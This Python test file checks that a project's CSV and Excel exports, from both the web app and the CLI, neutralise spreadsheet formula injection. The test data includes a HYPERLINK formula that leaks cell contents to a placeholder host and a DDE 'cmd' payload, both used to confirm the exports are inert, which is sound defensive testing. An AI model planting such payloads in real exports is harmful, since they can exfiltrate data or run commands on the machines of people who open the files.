"""Exports neutralise formula injection (issue #10 §7): every CSV and Excel export — the plan export
of the web and the CLI, the ranking export of the web, ``chiiki firms connector-hub --out`` — writes
text that begins with = + - @ tab or CR so that no spreadsheet evaluates it; numbers stay numbers."""

from __future__ import annotations

import io

import openpyxl
import polars as pl
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner
from web_helpers import PASSWORD, logged_in

from chiiki.cli.main import app as cli
from chiiki.data.contract import Dataset
from chiiki.data.datasets import write_dataset
from chiiki.data.synth import generate_economy
from chiiki.server.testing import seeded_app

EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"詳細")'


def _cells(book: openpyxl.Workbook) -> list[openpyxl.cell.Cell]:
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def _assert_inert(book: openpyxl.Workbook) -> None:
    cells = _cells(book)
    assert all(c.data_type != "f" for c in cells)
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory):
    ds = generate_economy(n_firms=600, years=(2023, 2024), seed=5)
    first = ds.companies.filter(pl.col("prefecture_code") == "07")["company_id"].head(3).to_list()
    companies = ds.companies.with_columns(
        pl.when(pl.col("company_id").is_in(first)).then(pl.lit(EVIL)).otherwise(pl.col("name")).alias("name")
    )
    out = tmp_path_factory.mktemp("hostile")
    write_dataset(Dataset(companies, ds.transactions), out)
    return out


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_cli_connector_hub_export_is_inert(hostile_dir, tmp_path, suffix):
    out = tmp_path / f"ch{suffix}"
    res = CliRunner().invoke(cli, ["firms", "connector-hub", str(hostile_dir), "--out", str(out)])
    assert res.exit_code == 0, res.output
    if suffix == ".csv":
        frame = pl.read_csv(out, infer_schema=False)
        assert f"'{EVIL}" in frame["name"].to_list() and EVIL not in frame["name"].to_list()
        assert not frame["name"].str.contains(r"^[=+\-@]").any()
    else:
        book = openpyxl.load_workbook(out)
        _assert_inert(book)
        assert any(c.value == f"'{EVIL}" for c in _cells(book))
        degrees = [c.value for c in book.worksheets[0]["1"]]
        col = degrees.index("connector_degree") + 1
        assert isinstance(book.worksheets[0].cell(2, col).value, float)  # numbers stay numbers


def test_plan_export_of_web_and_cli_is_inert(tmp_path):
    seeded = seeded_app(tmp_path, n_firms=None)
    api = TestClient(seeded.app)
    token = api.post("/api/v1/auth/token", json={"username": "fukushima", "password": PASSWORD}).json()
    api.headers["Authorization"] = f"Bearer {token['access_token']}"
    plan = api.post(
        "/api/v1/plans",
        json={"plan_type": "B", "title": EVIL, "period_start": 2026, "period_end": 2030,
              "description": "@SUM(1+1)*cmd|' /C calc'!A0"},
    ).json()  # fmt: skip
    page = logged_in(seeded.app, "fukushima").get(f"/plans/{plan['id']}/export.xlsx")
    assert page.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(page.content))
    _assert_inert(book)
    assert any(c.value == f"'{EVIL}" for c in _cells(book))
    out = tmp_path / "plan.xlsx"
    res = CliRunner(env={"CHIIKI_DATA_DIR": str(tmp_path)}).invoke(
        cli, ["plans", "export", str(plan["id"]), "--out", str(out)]
    )
    assert res.exit_code == 0, res.output
    _assert_inert(openpyxl.load_workbook(out))
